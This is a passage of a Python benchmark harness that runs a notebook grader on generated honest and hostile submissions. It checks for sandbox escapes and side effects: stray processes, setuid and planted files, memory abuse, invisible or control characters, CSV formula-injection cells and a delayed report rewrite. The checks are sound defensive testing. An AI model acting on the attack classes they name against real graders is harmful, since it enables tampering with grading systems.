            found[matched["name"]] = float(matched["seconds"])
    return found


PROGRESS = re.compile(r"\[\d+/\d+\] (?P<name>.+?): .* \((?P<seconds>\d+) s\)$")
# Characters that draw nothing or turn text around (zero-width, bidi): a name
# printed with one could pass for another's.
INVISIBLE = re.compile("[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069"
                       "\ufeff]")


def run_processes(context: Context, exclude: set[int]) -> list[psutil.Process]:
    """Processes of this run still alive: the marker in their command line or
    environment, or the run's folder in their command line."""
    found = []
    for process in psutil.process_iter(["pid", "cmdline"]):
        if process.info["pid"] in exclude:
            continue
        try:
            command = " ".join(process.info["cmdline"] or ())
            ours = context.marker in command or str(context.out) in command
            if not ours:
                ours = process.environ().get(RUN_VARIABLE) == context.marker
            if ours and process.status() != psutil.STATUS_ZOMBIE:
                found.append(process)
        except psutil.Error:
            continue
    return found


@dataclass
class Watch:
    """What a monitor thread saw while the grader ran."""

    grader_peak_mb: float = 0.0  # the grader process's own peak (VmHWM)
    marker_peak_mb: float = 0.0  # the largest total resident memory of marked processes
    worker_peak_mb: float = 0.0  # the largest resident memory of a grader's worker
    done: threading.Event = field(default_factory=threading.Event)


def high_water_mb(pid: int) -> float:
    """A process's peak resident memory so far (VmHWM), in MB; 0 when gone."""
    try:
        with open(f"/proc/{pid}/status", encoding="ascii") as status:
            for line in status:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1]) / 1024
    except OSError:
        pass
    return 0.0


WORKER = "instructor.grading.worker"  # in a grader's worker's command line


def monitor(pid: int, marker: str, watch: Watch, scratch: str) -> None:
    """Sample the grader's peak memory, the marked processes' memory and that of
    the grader's workers (their job files are in ``scratch``)."""
    while not watch.done.is_set():
        watch.grader_peak_mb = max(watch.grader_peak_mb, high_water_mb(pid))
        total = 0
        for process in psutil.process_iter(["cmdline", "memory_info"]):
            try:
                command = " ".join(process.info["cmdline"] or ())
                if marker in command:
                    total += process.info["memory_info"].rss
                if WORKER in command and scratch in command:
                    watch.worker_peak_mb = max(watch.worker_peak_mb,
                                               process.info["memory_info"].rss / 2**20)
            except (psutil.Error, TypeError, AttributeError):
                continue
        watch.marker_peak_mb = max(watch.marker_peak_mb, total / 2**20)
        watch.done.wait(0.5)


@dataclass
class GraderRun:
    """One run of the grader: exit code, time, console output, memory."""

    code: int
    seconds: float
    console: bytes
    watch: Watch


def run_grader(command: list[str], env: dict[str, str], marker: str,
               log: Path | None = None, scratch: str = "/") -> GraderRun:
    """Run the grader, echo its console (control characters shown as ``?``), keep
    its raw output, and watch its memory and the marked processes'."""
    start = time.perf_counter()
    process = subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.PIPE,
                               stderr=subprocess.STDOUT)
    watch = Watch()
    thread = threading.Thread(target=monitor,
                              args=(process.pid, marker, watch, scratch), daemon=True)
    thread.start()
    console = bytearray()
    for line in process.stdout:
        console += line
        if log is not None:
            print(printable(line.decode("utf-8", "replace").rstrip("\n")), flush=True)
    code = process.wait()
    watch.done.set()
    thread.join()
    if log is not None:
        log.write_bytes(bytes(console))
    return GraderRun(code, time.perf_counter() - start, bytes(console), watch)


def neutral_cell(cell: str) -> bool:
    """Whether a CSV cell is safe: no formula start, no control character (a
    message may keep its line breaks)."""
    start = cell.lstrip()[:1]
    return start not in ("=", "+", "-", "@") and not CONTROL.search(
        cell.replace("\n", "")
    )


def report_problems(path: Path) -> list[str]:
    """A report that does not parse, or a cell that is not neutral."""
    try:
        with open(path, newline="", encoding="utf-8") as handle:
            table = list(csv.reader(handle))
    except (OSError, UnicodeDecodeError, csv.Error) as error:
        return [f"report.csv does not read: {error}"]
    needed = {"submission", "notebook", "exercise", "status", "message", "flags"}
    if not table or not needed <= set(table[0]):
        return ["report.csv has no header naming " + ", ".join(sorted(needed))]
    problems = []
    for number, line in enumerate(table, 1):
        if len(line) != len(table[0]):
            problems.append(f"line {number} has {len(line)} cells")
        problems += [f"line {number}: cell not neutral: {printable(cell)[:80]}"
                     for cell in line if not neutral_cell(cell)]
    return problems


def reading_memory(context: Context, extra: list[str]) -> dict[str, float]:
    """The grader's peak memory on the large files alone, and on a tiny file.

    Each grader runs under a small Python that reports its children's peak
    resident memory (the grader's own: no kernel starts for invalid files).
    """
    folders = {"large": context.out / "memory" / "large",
               "small": context.out / "memory" / "small"}
    for folder in folders.values():
        folder.mkdir(parents=True)
    junk(60 * 2**20)(folders["large"] / "large_junk.ipynb")
    truncated_json(40 * 2**20)(folders["large"] / "large_json.ipynb")
    truncated_json(2**10)(folders["small"] / "small_json.ipynb")
    peaks = {}
    for name, folder in folders.items():
        grader = [sys.executable, "-m", "instructor.grade", str(folder), "--out",
                  str(folder.with_suffix(".csv")), "--quiet", *extra]
        wrapper = ("import resource, subprocess, sys; subprocess.run(sys.argv[1:], "
                   "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL); "
                   "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")
        found = subprocess.run([sys.executable, "-c", wrapper, *grader], cwd=ROOT,
                               capture_output=True, text=True, check=True)
        peaks[name] = int(found.stdout.split()[-1]) / 1024
    return peaks


def check_side_effects(context, before, run: GraderRun, report_hash, exclude,
                       submissions, rows, hostile_run: bool, extra: list[str],
                       started: float = 0.0):
    """Every side-effect check: ``{check: [problems]}`` (empty lists when fine)."""
    found: dict[str, list[str]] = {check: [] for check in EFFECTS}
    found["temp"] += grader_leftovers(context)
    found["setuid"] += setuid_files(context, started)
    for check, changes in differences(before, snapshot(watched(context))).items():
        found[check] += changes
    found["planted"] += [printable(str(path)) for path in planted_files(context)]
    left = run_processes(context, exclude)
    found["processes"] += [f"pid {p.pid}: {printable(' '.join(p.cmdline()))[:120]}"
                           for p in left if p.is_running()]
    if run.watch.marker_peak_mb > MEMORY_CAP_MB:
        found["memory"].append(f"marked processes reached "
                               f"{run.watch.marker_peak_mb:.0f} MB, over the "
                               f"{MEMORY_CAP_MB} MB cap")
    if run.watch.worker_peak_mb > WORKER_LIMIT_MB:
        found["memory"].append(f"a grader's worker reached "
                               f"{run.watch.worker_peak_mb:.0f} MB, over "
                               f"{WORKER_LIMIT_MB} MB")
    if run.code != 0:
        found["grader"].append(f"the grader exited with {run.code}")
    names = {sub.name for sub in submissions if not rows_of(sub, rows)}
    found["grader"] += [f"no row for {printable(name)}" for name in sorted(names)]
    found["grader"] += [f"{printable(row['submission'])}: not graded"
                        for row in rows if row["status"] == "not graded"]
    found["report"] += report_problems(context.report)
    if context.report.exists() and digest(context.report) != report_hash:
        found["report"].append("report.csv changed after the grader exited")
    text = run.console.decode("utf-8", "replace")
    bad = sorted({f"\\x{ord(c):02x}" for c in CONTROL.findall(text)})
    if bad:
        found["console"].append(f"control characters printed: {' '.join(bad)}")
    bad = sorted({f"U+{ord(c):04X}" for c in INVISIBLE.findall(text)})
    if bad:
        found["console"].append(f"invisible characters printed: {' '.join(bad)}")
    seconds = graded_seconds(text)
    for sub in submissions:
        if "time" in sub.effects:
            took = seconds.get(printable(sub.report_name))
            if took is None or took > TIME_BOUND_S:
                found["time"].append(f"{printable(sub.report_name)}: "
                                     f"{'no time printed' if took is None else took}"
                                     f" s")
    if hostile_run:
        peaks = reading_memory(context, extra)
        rise = peaks["large"] - peaks["small"]
        found["reading_figures"] = [f"grader peak {peaks['large']:.0f} MB with the "
                                    f"60 + 40 MB files, {peaks['small']:.0f} MB with "
                                    f"a 1 kB one: +{rise:.0f} MB"]
        if rise > 3 * 40:
            found["reading"].append(f"reading the 40 MB file took +{rise:.0f} MB")
    return found


def clean_up(context: Context, exclude: set[int]) -> list[str]:
    """Kill what the run left and remove what it planted (by marker, nothing
    else); return what was done."""
    done = []
    for process in run_processes(context, exclude):
        try:
            process.kill()
            done.append(f"killed pid {process.pid}")
        except psutil.Error:
            continue
    from instructor.grading.sandbox import remove_tree  # any depth, no recursion

    for path in planted_files(context):
        if path.is_dir() and not path.is_symlink():
            try:
                remove_tree(path)
            except OSError as error:
                done.append(f"could not remove {printable(str(path))}: {error}")
                continue
        else:
            path.unlink(missing_ok=True)
        done.append(f"removed {printable(str(path))}")
    return done


# ---------------------------------------------------------------------------------
# The run.
# ---------------------------------------------------------------------------------
def prepare(context: Context, submissions: list[Submission]) -> None:
    """Write the class, the --course copy and the grader's HOME."""
    write_class(context.submissions, submissions)
    context.course.mkdir(parents=True)
    for path in sorted((ROOT / "notebooks").glob("*.ipynb")):
        shutil.copy2(path, context.course / path.name)
    startup = context.home / ".ipython" / "profile_default" / "startup"
    startup.mkdir(parents=True)
    (startup / "README").write_text("Files here run in every kernel started with "
                                    "this HOME.\n")
    # Matplotlib's font cache, so that kernels need not build it (about 10 s each).
    fonts = Path(os.path.expanduser("~/.cache/matplotlib"))
    if fonts.is_dir():
        shutil.copytree(fonts, context.home / ".cache" / "matplotlib")
    # Checks compare the package with its compiled files: compile them first, so
    # that the grader's own imports write nothing.
    subprocess.run([sys.executable, "-m", "compileall", "-q", str(package_folder())],
                   check=True)


def effects_table(submissions, problems_by_sub, found) -> list[str]:
    """Markdown lines: category, expected, got, side effects ok."""
    lines = ["| category | submission | expected | got | side effects ok |",
             "|---|---|---|---|---|"]
    for sub in submissions:
        if not sub.category:
            continue
        expected = ", ".join(f"{n or 'file'}: {'/'.join(allowed(s))}"
                             for n, s in sub.expected.items())
        got = ", ".join(f"{n or 'file'}: {row['status']}"
                        for n, row in sorted(problems_by_sub[sub.report_name].items()))
        bad = [check for check in sub.effects if found.get(check)]
        effects = "yes" if not bad else "NO: " + ", ".join(bad)
        lines.append(f"| {sub.category} | {printable(sub.report_name)[:40]} | "
                     f"{expected} | "
                     f"{got or '(no row)'} | {effects} |")
    return lines


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path,
                        default=ROOT / "benchmarks" / "results" / "grading")
    parser.add_argument("--workers", type=int, default=2)
    parser.add_argument("--section", choices=("honest", "hostile", "all"),
                        default="all")
    parser.add_argument("--no-sandbox", action="store_true",
                        help="pass --no-sandbox to the grader (to see what the "
                        "sandbox prevents: side effects are then expected)")
    args = parser.parse_args(argv)
    context = Context(args.out.resolve(), f"hostile-{uuid.uuid4().hex[:12]}")
    submissions = []
    if args.section in ("honest", "all"):
        submissions += class_of_30()
    if args.section in ("hostile", "all"):
        submissions += hostile_class(context)
    shutil.rmtree(context.out, ignore_errors=True)
    prepare(context, submissions)
    extra = ["--no-sandbox"] if args.no_sandbox else []
    folders = watched(context)
    before = snapshot(folders)
    # A temporary folder of the run's own (short: Unix socket paths are limited),
    # where the grader's job folders go: attacks looking for them (without the
    # sandbox) then find this run's only.
    scratch = context.scratch
    scratch.mkdir()
    env = {**os.environ, "HOME": str(context.home), RUN_VARIABLE: context.marker,
           "TMPDIR": str(scratch)}
    command = [sys.executable, "-m", "instructor.grade", str(context.submissions),
               "--out", str(context.report), "--course", str(context.course),
               "--workers", str(args.workers), *extra]
    print("$", " ".join(command), flush=True)
    # This benchmark and what started it (a `timeout`, make) name the run's folder.
    exclude = {os.getpid(), *(parent.pid for parent in psutil.Process().parents())}
    started = time.time()
    run = run_grader(command, env, context.marker, log=context.out / "grader.log",
                     scratch=str(scratch))
    report_hash = digest(context.report) if context.report.exists() else ""
    time.sleep(6)  # the sleeper attack rewrites the report 2 s after it appears
    rows = []
    if context.report.exists():
        with open(context.report, newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
    found = check_side_effects(context, before, run, report_hash, exclude,
                               submissions, rows, args.section != "honest", extra,
                               started)
    cleaned = clean_up(context, exclude)
    from instructor.grading.sandbox import remove_tree

    try:
        remove_tree(scratch)
    except OSError as error:
        cleaned.append(f"could not remove {scratch}: {error}")
    problems = compare(submissions, rows)
    verdicts = sum(len(sub.expected) for sub in submissions)
    counts: dict[str, int] = {}
    for row in rows:
        counts[row["status"]] = counts.get(row["status"], 0) + 1
    figures = found.pop("reading_figures", [])
    effect_problems = [f"{check}: {item}" for check, items in found.items()
                       for item in items]
    when = datetime.now(timezone.utc).strftime("%Y-%m-%d %H:%M UTC")
    lines = [
        f"Section {args.section}: graded {len(submissions)} generated submissions "
        f"({verdicts} verdicts) with {args.workers} workers in {run.seconds / 60:.1f} "
        f"min on {os.cpu_count()} cores ({platform.processor() or platform.machine()})"
        f", {when}; grader exit code {run.code}"
        f"{' (--no-sandbox)' if args.no_sandbox else ''}.",
        "Statuses reported: " + ", ".join(f"{k} {v}" for k, v in sorted(counts.items()))
        + ".",
        f"Verdicts and flags as expected: {verdicts - len(problems)}/{verdicts}.",
        f"Grader's own peak memory (VmHWM) {run.watch.grader_peak_mb:.0f} MB; a "
        f"worker's peak {run.watch.worker_peak_mb:.0f} MB; marked processes' peak "
        f"{run.watch.marker_peak_mb:.0f} MB.",
        *figures,
        *(f"- {printable(problem)}" for problem in problems),
    ]
    if args.section != "honest":
        by_sub = {sub.report_name: rows_of(sub, rows) for sub in submissions}
        lines += ["", *effects_table(submissions, by_sub, found), ""]
    lines.append("Side effects: " + ("none." if not effect_problems else
                                     f"{len(effect_problems)} found:"))
    lines += [f"- {problem}" for problem in effect_problems[:200]]
    if cleaned:
        lines.append("Cleaned up after the run: " + "; ".join(cleaned[:50]))
    text = "\n".join(lines)
    (context.out / "grading.md").write_text(text + "\n", encoding="utf-8")
    print("\n" + text)
    return 1 if problems or effect_problems else 0


if __name__ == "__main__":
    sys.exit(main())
